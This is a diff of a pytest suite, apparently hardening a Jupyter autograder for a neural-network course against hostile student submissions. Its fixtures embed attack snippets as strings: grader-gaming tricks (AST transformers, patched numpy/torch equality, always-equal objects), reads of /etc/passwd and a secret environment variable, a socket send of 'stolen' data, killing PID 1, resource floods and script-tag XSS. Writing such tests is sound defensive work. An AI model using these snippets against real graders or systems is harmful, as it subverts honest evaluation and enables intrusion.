@@ -27,18 +27,23 @@ import nbformat
 import psutil
 import pytest
 
-from course import Course, error_names, outputs_by_grade_id, tree_digest
-from rnncourse.grading.submissions import make_submission, reference_answers
+from conftest import ASSIGNMENTS
+from course import error_names, outputs_by_grade_id, tree_digest
+from rnncourse.grading.trial import TrialCourse, make_submission
 
-ASSIGNMENT = "01_one_hot_hello"
-NOTEBOOK = "one_hot_hello.ipynb"
+pytestmark = pytest.mark.autograde
+
+HELLO = ASSIGNMENTS["01_one_hot_hello"]
+ASSIGNMENT = HELLO.name
+NOTEBOOK = HELLO.notebook("exercises").name
 HOSTILE_UID = 63000  # the sandbox user of this class alone: other tests grade at the same time
 SECRET_ENV = "RNN_BASICS_GRADER_SECRET"
-REFERENCE = reference_answers(ASSIGNMENT)
-BLANK = make_submission(ASSIGNMENT, blank=True)
-CORRECT = make_submission(ASSIGNMENT)
-VOCAB_ONLY = make_submission(ASSIGNMENT, {name: "raise NotImplementedError()" for name in REFERENCE
-                                          if name != "build_vocab"})
+REFERENCE = HELLO.reference_answers()
+BLANK = make_submission(HELLO, blank=True)
+CORRECT = make_submission(HELLO)
+VOCAB_ONLY = make_submission(
+    HELLO, {name: "raise NotImplementedError()" for name in REFERENCE if name != "build_vocab"}
+)
 
 
 def answer(base, grade_id: str, code: str):
@@ -93,50 +98,169 @@ def hostile_class(course, port: int, root) -> dict[str, tuple[dict, float]]:
         "blank": ({NOTEBOOK: BLANK}, 0),
         "vocab_only": ({NOTEBOOK: VOCAB_ONLY}, 3),
         # 1. Verdicts decided inside the learner's process.
-        "c1_input_transformer": ({NOTEBOOK: answer(BLANK, "build_vocab", shell + (
-            "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"))}, 0),
-        "c1_ast_transformer": ({NOTEBOOK: answer(BLANK, "build_vocab", shell + (
-            "import ast\nclass NoChecks(ast.NodeTransformer):\n"
-            "    def visit_Assert(self, node): return ast.Pass()\n"
-            "    def visit_Raise(self, node): return ast.Pass()\n"
-            "ip.ast_transformers.append(NoChecks())\n"))}, 0),
-        "c1_cell_events": ({NOTEBOOK: answer(BLANK, "build_vocab", shell + (
-            "def forget(result):\n    result.error_in_exec = None\n"
-            "ip.events.register('post_run_cell', forget)\n"
-            "ip.events.register('pre_run_cell', lambda info: setattr(info, 'raw_cell', 'pass'))\n"))}, 0),
-        "c1_custom_exception_handler": ({NOTEBOOK: answer(BLANK, "build_vocab", shell + (
-            "ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"))}, 0),
-        "c1_tracer_and_thread": ({NOTEBOOK: answer(BLANK, "build_vocab", (
-            "import sys, threading, time, builtins\n"
-            "sys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\n"
-            "def patch():\n    while True:\n        builtins.AssertionError = type('Quiet', (Exception,), {})\n"
-            "        time.sleep(0.01)\n"
-            "threading.Thread(target=patch, daemon=True).start()\n"))}, 0),
-        "c1_patches_modules": ({NOTEBOOK: answer(BLANK, "build_vocab", (
-            "import builtins, numpy, torch\nbuiltins.type = lambda obj: dict\n"
-            "numpy.array_equal = numpy.allclose = torch.allclose = lambda *a, **k: True\n"
-            "np = torch = None\n"))}, 0),
-        "c1_rigged_values": ({NOTEBOOK: answer(answer(BLANK, "build_vocab", (
-            "class AlwaysEqual(dict):\n    def __eq__(self, other): return True\n"
-            "    def items(self): return [('h', 0), ('e', 1), ('l', 2), ('o', 3)]\n"
-            "def build_vocab(words):\n    if not words: raise ValueError('empty')\n    return AlwaysEqual()\n")),
-            "hello_batch", (
-                "class Same(torch.Tensor):\n    def __eq__(self, other): return True\n"
-                "    def tolist(self): return [[[1, 0, 0, 0]]]\n"
-                "def hello_batch():\n    return torch.zeros(3, 5, 4).as_subclass(Same)\n"))}, 1),
-        "c1_object_that_poses_as_data": ({NOTEBOOK: answer(BLANK, "build_vocab", (
-            "class Fake:\n    __class__ = dict\n    def __eq__(self, other): return True\n"
-            "def build_vocab(words):\n    if not words: raise ValueError('empty')\n    return Fake()\n"))}, 1),
-        "c1_garbage_replies": ({NOTEBOOK: answer(BLANK, "build_vocab", (
-            "import os\nfor fd in map(int, os.listdir('/proc/self/fd')):\n"
-            "    try:\n        os.write(fd, b'\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x05{\"ok\"')\n"
-            "    except OSError:\n        pass\n"))}, 0),
-        "c1_skip_and_partial_credit_metadata": ({NOTEBOOK: add_cell(edit_cells(BLANK, lambda cells: [
-            tagged(c, ["skip-execution", "raises-exception"]) for c in cells]), "1.0")}, 0),
-        "c1_edits_deletes_duplicates_renames_tests": ({NOTEBOOK: edit_cells(BLANK, lambda cells: [
-            c for c in cells if not is_test(c)] + [nbformat.v4.new_code_cell(
-                "pass", metadata={"nbgrader": {**c.metadata["nbgrader"], "grade_id": f"{c.metadata['nbgrader']['grade_id']}_2"}})
-                for c in cells if is_test(c)])}, 0),
+        "c1_input_transformer": (
+            {
+                NOTEBOOK: answer(
+                    BLANK, "build_vocab", shell + ("ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n")
+                )
+            },
+            0,
+        ),
+        "c1_ast_transformer": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    shell
+                    + (
+                        "import ast\nclass NoChecks(ast.NodeTransformer):\n"
+                        "    def visit_Assert(self, node): return ast.Pass()\n"
+                        "    def visit_Raise(self, node): return ast.Pass()\n"
+                        "ip.ast_transformers.append(NoChecks())\n"
+                    ),
+                )
+            },
+            0,
+        ),
+        "c1_cell_events": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    shell
+                    + (
+                        "def forget(result):\n    result.error_in_exec = None\n"
+                        "ip.events.register('post_run_cell', forget)\n"
+                        "ip.events.register('pre_run_cell', lambda info: setattr(info, 'raw_cell', 'pass'))\n"
+                    ),
+                )
+            },
+            0,
+        ),
+        "c1_custom_exception_handler": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    shell + ("ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"),
+                )
+            },
+            0,
+        ),
+        "c1_tracer_and_thread": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    (
+                        "import sys, threading, time, builtins\n"
+                        "sys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\n"
+                        "def patch():\n    while True:\n"
+                        "        builtins.AssertionError = type('Quiet', (Exception,), {})\n"
+                        "        time.sleep(0.01)\n"
+                        "threading.Thread(target=patch, daemon=True).start()\n"
+                    ),
+                )
+            },
+            0,
+        ),
+        "c1_patches_modules": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    (
+                        "import builtins, numpy, torch\nbuiltins.type = lambda obj: dict\n"
+                        "numpy.array_equal = numpy.allclose = torch.allclose = lambda *a, **k: True\n"
+                        "np = torch = None\n"
+                    ),
+                )
+            },
+            0,
+        ),
+        "c1_rigged_values": (
+            {
+                NOTEBOOK: answer(
+                    answer(
+                        BLANK,
+                        "build_vocab",
+                        (
+                            "class AlwaysEqual(dict):\n    def __eq__(self, other): return True\n"
+                            "    def items(self): return [('h', 0), ('e', 1), ('l', 2), ('o', 3)]\n"
+                            "def build_vocab(words):\n    if not words: raise ValueError('empty')\n"
+                            "    return AlwaysEqual()\n"
+                        ),
+                    ),
+                    "hello_batch",
+                    (
+                        "class Same(torch.Tensor):\n    def __eq__(self, other): return True\n"
+                        "    def tolist(self): return [[[1, 0, 0, 0]]]\n"
+                        "def hello_batch():\n    return torch.zeros(3, 5, 4).as_subclass(Same)\n"
+                    ),
+                )
+            },
+            1,
+        ),
+        "c1_object_that_poses_as_data": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    (
+                        "class Fake:\n    __class__ = dict\n    def __eq__(self, other): return True\n"
+                        "def build_vocab(words):\n    if not words: raise ValueError('empty')\n    return Fake()\n"
+                    ),
+                )
+            },
+            1,
+        ),
+        "c1_garbage_replies": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    (
+                        "import os\nfor fd in map(int, os.listdir('/proc/self/fd')):\n"
+                        "    try:\n        os.write(fd, b'\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x05{\"ok\"')\n"
+                        "    except OSError:\n        pass\n"
+                    ),
+                )
+            },
+            0,
+        ),
+        "c1_skip_and_partial_credit_metadata": (
+            {
+                NOTEBOOK: add_cell(
+                    edit_cells(BLANK, lambda cells: [tagged(c, ["skip-execution", "raises-exception"]) for c in cells]),
+                    "1.0",
+                )
+            },
+            0,
+        ),
+        "c1_edits_deletes_duplicates_renames_tests": (
+            {
+                NOTEBOOK: edit_cells(
+                    BLANK,
+                    lambda cells: (
+                        [c for c in cells if not is_test(c)]
+                        + [
+                            nbformat.v4.new_code_cell(
+                                "pass",
+                                metadata={
+                                    "nbgrader": {
+                                        **c.metadata["nbgrader"],
+                                        "grade_id": f"{c.metadata['nbgrader']['grade_id']}_2",
+                                    }
+                                },
+                            )
+                            for c in cells
+                            if is_test(c)
+                        ]
+                    ),
+                )
+            },
+            0,
+        ),
         # 2. Files the privileged grader would follow.
         "c2_notebook_links_to_gradebook": ({}, 0),
         "c2_notebook_links_to_a_classmate": ({}, 0),
@@ -144,62 +268,178 @@ def hostile_class(course, port: int, root) -> dict[str, tuple[dict, float]]:
         "c2_timestamp_links_to_dev_zero": ({NOTEBOOK: CORRECT}, 13),
         "c2_timestamp_is_a_device": ({NOTEBOOK: CORRECT}, 13),
         "c2_folder_links_to_a_classmate": ({}, 0),
-        "c2_ships_config_and_gradebook": ({NOTEBOOK: CORRECT, "nbgrader_config.py": "raise SystemExit('owned')\n",
-                                           "gradebook.db": "not a database", "numpy.py": "raise SystemExit(1)\n"}, 13),
+        "c2_ships_config_and_gradebook": (
+            {
+                NOTEBOOK: CORRECT,
+                "nbgrader_config.py": "raise SystemExit('owned')\n",
+                "gradebook.db": "not a database",
+                "numpy.py": "raise SystemExit(1)\n",
+            },
+            13,
+        ),
         "c2_oversized_notebook": ({NOTEBOOK: add_cell(CORRECT, "# " + "x" * (21 * 2**20))}, 0),
-        "c2_writes_course_files": ({NOTEBOOK: oracle(
-            "import pathlib\n"
-            f"for target in [{str(gradebook)!r}, {str(solutions)!r}, {str(victim)!r}, '/root/owned', "
-            f"{str(course / 'nbgrader_config.py')!r}]:\n"
-            "    pathlib.Path(target).write_text('owned')\n")}, 0),
+        "c2_writes_course_files": (
+            {
+                NOTEBOOK: oracle(
+                    "import pathlib\n"
+                    f"for target in [{str(gradebook)!r}, {str(solutions)!r}, {str(victim)!r}, '/root/owned', "
+                    f"{str(course / 'nbgrader_config.py')!r}]:\n"
+                    "    pathlib.Path(target).write_text('owned')\n"
+                )
+            },
+            0,
+        ),
         # 4. The host's files, environment and network.
         "c4_reads_solutions": ({NOTEBOOK: oracle(f"open({str(solutions)!r}).read()\n")}, 0),
         "c4_reads_another_checkout": ({NOTEBOOK: oracle(f"open({str(repository_solutions)!r}).read()\n")}, 0),
-        "c4_reads_home_and_etc": ({NOTEBOOK: oracle(
-            "import os\nos.listdir(os.path.expanduser('~root'))\nopen('/etc/passwd').read()\n")}, 0),
-        "c4_lists_host_folders": ({NOTEBOOK: oracle(
-            "import os\nassert any(os.path.exists(p) for p in ['/home', '/srv', '/var', '/boot', '/mnt', '/sys/class'])\n")}, 0),
+        "c4_reads_home_and_etc": (
+            {NOTEBOOK: oracle("import os\nos.listdir(os.path.expanduser('~root'))\nopen('/etc/passwd').read()\n")},
+            0,
+        ),
+        "c4_lists_host_folders": (
+            {
+                NOTEBOOK: oracle(
+                    "import os\n"
+                    "assert any(os.path.exists(p) for p in ['/home', '/srv', '/var', '/boot', '/mnt', '/sys/class'])\n"
+                )
+            },
+            0,
+        ),
         "c4_reads_environment": ({NOTEBOOK: oracle(f"import os\nos.environ[{SECRET_ENV!r}]\n")}, 0),
-        "c4_uses_network": ({NOTEBOOK: oracle(
-            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n")}, 0),
+        "c4_uses_network": (
+            {
+                NOTEBOOK: oracle(
+                    f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
+                )
+            },
+            0,
+        ),
         # 5. Resources.
         "c5_infinite_loop": ({NOTEBOOK: crash_after_vocab("while True:\n    pass\n")}, 3),
-        "c5_unstoppable_loop": ({NOTEBOOK: crash_after_vocab(
-            "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass\n")}, 3),
+        "c5_unstoppable_loop": (
+            {
+                NOTEBOOK: crash_after_vocab(
+                    "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass\n"
+                )
+            },
+            3,
+        ),
         "c5_memory_hog": ({NOTEBOOK: crash_after_vocab("hog = [bytearray(10**8) for _ in range(1000)]\n")}, 3),
-        "c5_fills_tmp": ({NOTEBOOK: oracle(
-            "import os\nwith open('/tmp/fill', 'wb') as f:\n    for _ in range(1100):\n"
-            "        f.write(os.urandom(2**20))\n")}, 0),
-        "c5_process_flood": ({NOTEBOOK: crash_after_vocab(
-            "import subprocess\nchildren = [subprocess.Popen(['sleep', '600']) for _ in range(500)]\n")}, 3),
-        "c5_thread_flood": ({NOTEBOOK: crash_after_vocab(
-            "import threading, time\n"
-            "threads = [threading.Thread(target=time.sleep, args=(600,), daemon=True) for _ in range(2000)]\n"
-            "[t.start() for t in threads]\n")}, 3),
+        "c5_fills_tmp": (
+            {
+                NOTEBOOK: oracle(
+                    "import os\nwith open('/tmp/fill', 'wb') as f:\n    for _ in range(1100):\n"
+                    "        f.write(os.urandom(2**20))\n"
+                )
+            },
+            0,
+        ),
+        "c5_process_flood": (
+            {
+                NOTEBOOK: crash_after_vocab(
+                    "import subprocess\nchildren = [subprocess.Popen(['sleep', '600']) for _ in range(500)]\n"
+                )
+            },
+            3,
+        ),
+        "c5_thread_flood": (
+            {
+                NOTEBOOK: crash_after_vocab(
+                    "import threading, time\n"
+                    "threads = [threading.Thread(target=time.sleep, args=(600,), daemon=True) for _ in range(2000)]\n"
+                    "[t.start() for t in threads]\n"
+                )
+            },
+            3,
+        ),
         "c5_exits": ({NOTEBOOK: crash_after_vocab("import os\nos._exit(0)\n")}, 3),
-        "c5_kills_its_parents": ({NOTEBOOK: crash_after_vocab(
-            "import os, signal\nfor pid in (os.getppid(), 1):\n    os.kill(pid, signal.SIGKILL)\n")}, 3),
-        "c5_stops_answering": ({NOTEBOOK: crash_after_vocab(
-            "import sys, time\nsys.modules['rnncourse.grading.wire'].read_frame = lambda *a, **k: time.sleep(10**6)\n")}, 3),
-        "c5_huge_output": ({NOTEBOOK: crash_after_vocab(
-            "print('x' * 10**8)\nfor _ in range(10**5):\n    print('y' * 100)\n")}, 3),
-        "c5_huge_reply": ({NOTEBOOK: answer(VOCAB_ONLY, "one_hot", (
-            "import numpy as np\ndef one_hot(indices, num_classes):\n    return np.zeros((5000, 1000))\n"))}, 3),
-        "c5_deeply_nested_reply": ({NOTEBOOK: answer(VOCAB_ONLY, "one_hot", (
-            "def one_hot(indices, num_classes):\n    value = []\n    for _ in range(10**5):\n"
-            "        value = [value]\n    return value\n"))}, 3),
+        "c5_kills_its_parents": (
+            {
+                NOTEBOOK: crash_after_vocab(
+                    "import os, signal\nfor pid in (os.getppid(), 1):\n    os.kill(pid, signal.SIGKILL)\n"
+                )
+            },
+            3,
+        ),
+        "c5_stops_answering": (
+            {
+                NOTEBOOK: crash_after_vocab(
+                    "import sys, time\nsys.modules['rnncourse.grading.wire'].read_frame = lambda *a, **k: time.sleep(10**6)\n"
+                )
+            },
+            3,
+        ),
+        "c5_huge_output": (
+            {NOTEBOOK: crash_after_vocab("print('x' * 10**8)\nfor _ in range(10**5):\n    print('y' * 100)\n")},
+            3,
+        ),
+        "c5_huge_reply": (
+            {
+                NOTEBOOK: answer(
+                    VOCAB_ONLY,
+                    "one_hot",
+                    ("import numpy as np\ndef one_hot(indices, num_classes):\n    return np.zeros((5000, 1000))\n"),
+                )
+            },
+            3,
+        ),
+        "c5_deeply_nested_reply": (
+            {
+                NOTEBOOK: answer(
+                    VOCAB_ONLY,
+                    "one_hot",
+                    (
+                        "def one_hot(indices, num_classes):\n    value = []\n    for _ in range(10**5):\n"
+                        "        value = [value]\n    return value\n"
+                    ),
+                )
+            },
+            3,
+        ),
         # 6. Leaks through outputs.
-        "c6_prints_history": ({NOTEBOOK: add_cell(add_cell(VOCAB_ONLY, (
-            "print(In, Out)\nprint(get_ipython().history_manager.input_hist_raw)\nprint(globals().keys())\n")),
-            "<script>alert('owned')</script>", kind="markdown")}, 3),
-        "c6_echoes_cells_and_callers": ({NOTEBOOK: answer(BLANK, "build_vocab", (
-            "import inspect\nget_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))\n"
-            "def build_vocab(words):\n"
-            "    raise ValueError(repr([f.code_context for f in inspect.stack()]))\n"))}, 1),  # raises on []
-        "c6_active_content": ({NOTEBOOK: answer(BLANK, "build_vocab", (
-            "from IPython.display import HTML, Javascript, display\n"
-            "display(HTML('<script>alert(\"owned\")</script>'), Javascript('alert(\"owned\")'))\n"
-            "def build_vocab(words):\n    return '<script>alert(\"owned\")</script>'\n"))}, 0),
+        "c6_prints_history": (
+            {
+                NOTEBOOK: add_cell(
+                    add_cell(
+                        VOCAB_ONLY,
+                        (
+                            "print(In, Out)\nprint(get_ipython().history_manager.input_hist_raw)\nprint(globals().keys())\n"
+                        ),
+                    ),
+                    "<script>alert('owned')</script>",
+                    kind="markdown",
+                )
+            },
+            3,
+        ),
+        "c6_echoes_cells_and_callers": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    (
+                        "import inspect\nget_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))\n"
+                        "def build_vocab(words):\n"
+                        "    raise ValueError(repr([f.code_context for f in inspect.stack()]))\n"
+                    ),
+                )
+            },
+            1,
+        ),  # raises on []
+        "c6_active_content": (
+            {
+                NOTEBOOK: answer(
+                    BLANK,
+                    "build_vocab",
+                    (
+                        "from IPython.display import HTML, Javascript, display\n"
+                        "display(HTML('<script>alert(\"owned\")</script>'), Javascript('alert(\"owned\")'))\n"
+                        "def build_vocab(words):\n    return '<script>alert(\"owned\")</script>'\n"
+                    ),
+                )
+            },
+            0,
+        ),
         # Broken submissions.
         "invalid_json": ({NOTEBOOK: "{ this is not a notebook"}, 0),
         "renamed_notebook": ({"my_homework.ipynb": CORRECT}, 0),
@@ -226,7 +466,7 @@ def plant_files(course, students):
 
 @pytest.fixture(scope="module")
 def graded(root, tmp_path_factory):
-    course = Course(root, tmp_path_factory.mktemp("hostile"), (ASSIGNMENT,))
+    course = TrialCourse(root, tmp_path_factory.mktemp("hostile"), [HELLO])
     listener = socket.socket()
     listener.bind(("127.0.0.1", 0))
     listener.listen()
@@ -246,12 +486,20 @@ def graded(root, tmp_path_factory):
         if files:  # the others are planted below
             course.submit(student, ASSIGNMENT, files)
     plant_files(course.path, students)
-    before = {"solutions": tree_digest(course.path / "solutions"), "config": tree_digest(course.path)["nbgrader_config.py"],
-              "honest": tree_digest(course.path / "submitted" / "honest")}
+    before = {
+        "solutions": tree_digest(course.path / "solutions"),
+        "config": tree_digest(course.path)["nbgrader_config.py"],
+        "honest": tree_digest(course.path / "submitted" / "honest"),
+    }
     os.environ[SECRET_ENV] = "the grader's secret"
     try:
-        result = course.nbgrader("autograde", ASSIGNMENT, "--SealedExecute.cell_timeout=10",
-                                 f"--SealedExecute.sandbox_uid={HOSTILE_UID}", check=False)
+        result = course.nbgrader(
+            "autograde",
+            ASSIGNMENT,
+            "--SealedExecute.cell_timeout=10",
+            f"--SealedExecute.sandbox_uid={HOSTILE_UID}",
+            check=False,
+        )
     finally:
         del os.environ[SECRET_ENV]
     stop.set()
@@ -259,8 +507,16 @@ def graded(root, tmp_path_factory):
     survivors = [p.info for p in psutil.process_iter(["pid", "uids", "cmdline"]) if p.info["uids"].real == HOSTILE_UID]
     feedback = course.nbgrader("generate_feedback", ASSIGNMENT, check=False)
     scores = {student: score for (student, _), score in course.scores().items()}
-    return {"course": course, "students": students, "result": result, "before": before, "scores": scores,
-            "connections": connections, "survivors": survivors, "feedback": feedback}
+    return {
+        "course": course,
+        "students": students,
+        "result": result,
+        "before": before,
+        "scores": scores,
+        "connections": connections,
+        "survivors": survivors,
+        "feedback": feedback,
+    }
 
 
 def test_every_student_gets_the_exact_score_of_their_honest_twin(graded):
@@ -290,7 +546,10 @@ def test_refused_entries_are_kept_aside_not_followed(graded):
     assert (refused / "c2_notebook_links_to_gradebook" / ASSIGNMENT / NOTEBOOK).is_symlink()
     assert (refused / "c2_notebook_links_to_a_classmate" / ASSIGNMENT / NOTEBOOK).is_symlink()
     assert sorted(p.name for p in (refused / "c2_ships_config_and_gradebook" / ASSIGNMENT).iterdir()) == [
-        "gradebook.db", "nbgrader_config.py", "numpy.py"]
+        "gradebook.db",
+        "nbgrader_config.py",
+        "numpy.py",
+    ]
     assert stat.S_ISFIFO((refused / "c2_timestamp_is_a_fifo" / ASSIGNMENT / "timestamp.txt").lstat().st_mode)
     assert (refused / "c2_folder_links_to_a_classmate" / ASSIGNMENT).is_symlink()
     assert not (graded["course"].path / "autograded" / "c2_notebook_links_to_a_classmate").exists()
@@ -332,23 +591,11 @@ def test_stray_files_are_not_copied_for_grading(graded):
     assert sorted(p.name for p in folder.iterdir()) == [NOTEBOOK]
 
 
-def hidden_test_lines(root) -> list[str]:
-    source = nbformat.read(root / "solutions" / ASSIGNMENT / NOTEBOOK, as_version=4)
-    lines, hidden = [], False
-    for cell in source.cells:
-        for line in cell.source.splitlines():
-            if "HIDDEN TESTS" in line:
-                hidden = "BEGIN" in line
-            elif hidden and len(line.strip()) > 25:
-                lines.append(line.strip())
-    return lines
-
-
 def test_feedback_shows_no_hidden_test_no_course_file_and_nothing_active(graded, root):
     course = graded["course"].path
     pages = list((course / "feedback").rglob("*.html"))
     assert len(pages) == len(list((course / "autograded").glob(f"*/{ASSIGNMENT}/{NOTEBOOK}")))
-    hidden = hidden_test_lines(root)
+    hidden = ASSIGNMENTS[ASSIGNMENT].hidden_test_lines()
     assert hidden
     for page in pages:
         html = page.read_text()
